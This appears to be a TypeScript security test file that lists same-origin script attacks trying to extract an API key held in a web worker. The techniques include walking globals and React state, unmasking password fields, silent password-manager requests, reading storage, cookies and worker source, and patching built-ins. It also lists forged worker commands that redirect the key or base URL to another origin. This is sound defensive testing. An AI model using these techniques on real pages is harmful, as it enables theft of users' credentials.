import type { WalkScope } from "./walk.ts";

/**
 * Ways in which a script on the page's own origin can try to read a key that the worker holds. Each runs inside the page, knows
 * nothing of the key, and gives back all the text it got hold of. Not among them: listening while the key is typed or pasted,
 * which no page can prevent and the README says so.
 */
export const attacks: Readonly<Record<string, () => unknown>> = {
  "walks everything that hangs on the window": () => (globalThis as unknown as WalkScope).walk(globalThis),
  "walks the prototypes of what the browser offers": () =>
    (globalThis as unknown as WalkScope).walk(
      ...Object.getOwnPropertyNames(globalThis).map((name) => Reflect.get(globalThis, name)),
    ),
  "walks React's tree from its root, former state included": () => {
    const root = document.querySelector("#root, #app, main")?.parentElement ?? document.body;
    const owners = [root, ...root.querySelectorAll("*")].flatMap((node) =>
      Object.getOwnPropertyNames(node)
        .filter((name) => name.startsWith("__react"))
        .map((name) => Reflect.get(node, name)),
    );
    return `${owners.length} ${(globalThis as unknown as WalkScope).walk(...owners)}`;
  },
  "walks React's tree of the key field alone": () => {
    const field = document.querySelector("input[type=password]") ?? document.body;
    return (globalThis as unknown as WalkScope).walk(
      field,
      ...Object.getOwnPropertyNames(field).map((name) => Reflect.get(field, name)),
    );
  },
  "reads the fields of every form": () =>
    [...document.forms]
      .flatMap((form) => [...new FormData(form).entries()].map(([name, value]) => `${name}=${value}`))
      .join("\n"),
  "undoes what was typed in every field": () =>
    [...document.querySelectorAll<HTMLInputElement>("input, textarea")]
      .map((field) => {
        field.focus();
        for (let step = 0; step < 5; step += 1) document.execCommand("undo");
        const text = field.value;
        for (let step = 0; step < 5; step += 1) document.execCommand("redo");
        return `${text} ${field.value}`;
      })
      .join("\n"),
  "makes masked fields plain and selects all": () => {
    for (const field of document.querySelectorAll<HTMLInputElement>("input[type=password]")) field.type = "text";
    document.execCommand("selectAll");
    const text = `${getSelection()} ${document.body.innerText}`;
    for (const field of document.querySelectorAll<HTMLInputElement>("input[name=vivarium-key]")) field.type = "password";
    return text;
  },
  "puts the form back to its first values": () =>
    [...document.forms].map((form) => {
      const before = new FormData(form);
      return JSON.stringify([...before.entries()]);
    }),
  "reads what the last pattern matched": () => {
    const legacy = RegExp as unknown as Readonly<Record<string, string>>;
    return ["input", "$_", "lastMatch", "$&", "lastParen", "$+", "leftContext", "$`", "rightContext", "$'", "$1", "$2", "$9"]
      .map((name) => legacy[name])
      .join("\n");
  },
  "reads every performance entry": () =>
    JSON.stringify([performance.getEntries(), performance.getEntriesByType("resource"), performance.timing]),
  "reads entries that were buffered for observers": async () => {
    const entries: unknown[] = [];
    for (const type of PerformanceObserver.supportedEntryTypes) {
      const observer = new PerformanceObserver((list) => entries.push(...list.getEntries().map((entry) => entry.toJSON())));
      observer.observe({ type, buffered: true });
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    return JSON.stringify(entries);
  },
  "reads history, navigation and the window's name": () =>
    (globalThis as unknown as WalkScope).walk(history, Reflect.get(globalThis, "navigation"), location, { name: window.name }),
  "looks at both storages through an inherited method": () =>
    [localStorage, sessionStorage].map((storage) =>
      Array.from({ length: storage.length }, (_, index) => storage.getItem(storage.key(index) ?? "")).join("\n"),
    ),
  "reads the cookie store": async () => {
    const store = Reflect.get(globalThis, "cookieStore") as { getAll: () => Promise<unknown> } | undefined;
    return `${document.cookie} ${JSON.stringify(await store?.getAll())}`;
  },
  "asks the password manager silently": async () => {
    try {
      const options = { password: true, mediation: "silent" } as CredentialRequestOptions;
      return JSON.stringify(await navigator.credentials.get(options));
    } catch (cause) {
      return String(cause);
    }
  },
  "reads the private file system": async () => {
    const names: string[] = [];
    const folder = (await navigator.storage.getDirectory()) as unknown as { keys: () => AsyncIterable<string> };
    for await (const name of folder.keys()) names.push(name);
    return names.join("\n");
  },
  "reads the names of locks and service workers": async () =>
    JSON.stringify([await navigator.locks.query(), (await navigator.serviceWorker?.getRegistrations())?.length]),
  "looks through a frame of the same origin": async () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const text = (globalThis as unknown as WalkScope).walk(
      frame.contentWindow?.sessionStorage,
      frame.contentWindow?.localStorage,
    );
    frame.remove();
    return text;
  },
  "imports the app's modules again and walks what they export": async () => {
    const addresses = performance.getEntriesByType("resource").map(({ name }) => name);
    const scripts = [...addresses, ...[...document.scripts].map(({ src }) => src)].filter((name) =>
      /\/assets\/.*\.js$/.test(name),
    );
    const modules = await Promise.allSettled(
      [...new Set(scripts)].filter((name) => !name.includes("/worker/")).map((name) => import(name)),
    );
    return (globalThis as unknown as WalkScope).walk(...modules);
  },
  "reads the worker's program and the address it was made from": async () => {
    const names = performance.getEntriesByType("resource").map(({ name }) => name);
    const texts = await Promise.allSettled(
      names.filter((name) => name.startsWith("blob:")).map(async (name) => (await fetch(name)).text()),
    );
    return JSON.stringify(texts);
  },
  "makes an error everywhere and reads its trace": () => {
    const traces: string[] = [];
    for (const make of [() => null as unknown as () => void, () => JSON.parse("{"), () => new URL("::")]) {
      try {
        (make() as () => void)();
      } catch (cause) {
        traces.push(cause instanceof Error ? `${cause.message} ${cause.stack} ${JSON.stringify(cause.cause)}` : String(cause));
      }
    }
    return traces.join("\n");
  },
  "makes the page say goodbye and walks it again": () => {
    for (const type of ["pagehide", "beforeunload", "freeze", "visibilitychange", "offline", "online"])
      dispatchEvent(new Event(type));
    return (globalThis as unknown as WalkScope).walk(globalThis.document);
  },
  "pastes and drops nothing into every field, to see what comes back": () => {
    for (const field of document.querySelectorAll("input, textarea")) {
      field.dispatchEvent(new ClipboardEvent("copy", { bubbles: true, clipboardData: new DataTransfer() }));
      field.dispatchEvent(new ClipboardEvent("cut", { bubbles: true, clipboardData: new DataTransfer() }));
      field.dispatchEvent(new Event("change", { bubbles: true }));
    }
    return (globalThis as unknown as WalkScope).walk(document.activeElement, document.body.innerHTML);
  },
  "replaces methods of built-ins and makes the page use them": async () => {
    const heard: string[] = [];
    const { parse, stringify } = JSON;
    const trim = String.prototype.trim;
    JSON.parse = (text: string) => {
      heard.push(text);
      return parse(text);
    };
    JSON.stringify = ((value: unknown) => {
      const text = stringify(value);
      heard.push(text);
      return text;
    }) as typeof JSON.stringify;
    String.prototype.trim = function () {
      heard.push(String(this));
      return trim.call(this);
    };
    await (globalThis as unknown as WalkScope).askWorker({ type: "command", command: { type: "read-storage" } });
    location.hash = "#/settings/model";
    await new Promise((resolve) => setTimeout(resolve, 300));
    Object.assign(JSON, { parse, stringify });
    String.prototype.trim = trim;
    return heard.join("\n");
  },
};

/** Commands that the page never sends like this. Each goes to the worker, and, as another tab would send it, over the channel. */
export const forgedCommands = (otherOrigin: string): readonly object[] => [
  { type: "export-log" },
  { type: "read-storage" },
  { type: "list-files" },
  { type: "get-key" },
  { type: "keys" },
  { type: "__proto__" },
  { type: "constructor" },
  { type: "toString" },
  { type: "give-key", origin: otherOrigin, key: "sk-forged-0000000000000000" },
  { type: "give-key", origin: { toString: "x" }, key: null },
  { type: "check-connection", provider: "openai-chat", baseUrl: `${otherOrigin}/v1` },
  { type: "check-connection", provider: "anthropic", baseUrl: otherOrigin },
  { type: "choose-model", choice: { provider: "openai-chat", baseUrl: `${otherOrigin}/v1`, model: "stolen" } },
  { type: "create-session", title: "stolen" },
  { type: "read-content", hash: "0".repeat(64) },
  { type: "open-session", sessionId: "session_none" },
];
